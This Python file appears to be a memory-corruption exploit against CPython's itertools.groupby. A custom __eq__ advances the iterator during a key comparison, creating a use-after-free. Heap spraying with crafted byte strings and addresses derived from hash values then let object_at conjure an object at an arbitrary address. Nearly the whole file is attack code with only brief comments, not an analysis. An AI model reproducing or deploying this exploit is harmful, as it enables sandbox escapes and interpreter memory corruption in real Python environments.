# itertools.groupby compares a key that it does not hold: what the comparison runs steps it on, and the key's memory is somebody else's.
# off: groupby
import itertools

def word(number):
    return (number % (1 << 64)).to_bytes(8, "little")

def place_of(thing):
    turned = hash(thing) % (1 << 64)  # an object's hash is its address, turned by four bits
    return (turned << 4 | turned >> 60) % (1 << 64)

kept = []
WIDTH = 24  # a tuple of so many, and bytes of as many words, take blocks of the same size

class Element:
    def __init__(self, answer):
        self.answer = answer
    def __eq__(self, other):
        return self.answer(other)

def bytes_at_a_known_place(data):
    """Put bytes where a function was, whose address was known."""
    padded = data + bytes(120 - len(data))
    places = []
    for _ in range(400):
        function = lambda: None
        block = place_of(function) - 16
        del function
        kept.append(bytes(bytearray(padded)))
        places.append(block + 32)
    return places[200]

def object_at(address):
    found, stepped = [], []
    def step_on(other):
        if not stepped:
            stepped.append(True)
            next(groups)
            kept.extend([bytes(bytearray(word(WIDTH) + word(address) * WIDTH)) for _ in range(64)])
        return True
    def take(other):
        if type(other) is not Element:
            found.append(other)
        return False
    def key(i):
        return tuple([Element(step_on)] + [Element(take)] * (WIDTH - 1)) if i < 2 else i
    groups = itertools.groupby(iter(range(4)), key)
    next(groups)
    next(groups)
    kept.append(groups)
    return found[0]
